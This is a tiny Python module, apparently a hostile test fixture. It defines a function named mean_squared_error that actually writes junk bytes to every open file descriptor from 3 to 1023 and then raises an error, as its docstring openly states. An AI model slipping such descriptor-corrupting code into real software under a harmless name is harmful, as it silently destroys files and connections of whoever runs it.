"""Writes rubbish to every descriptor that it finds."""


def mean_squared_error(y_true, y_pred):
    import os

    for fd in range(3, 1024):
        try:
            os.write(fd, b'\xff' * 64)
        except OSError:
            pass
    raise ValueError
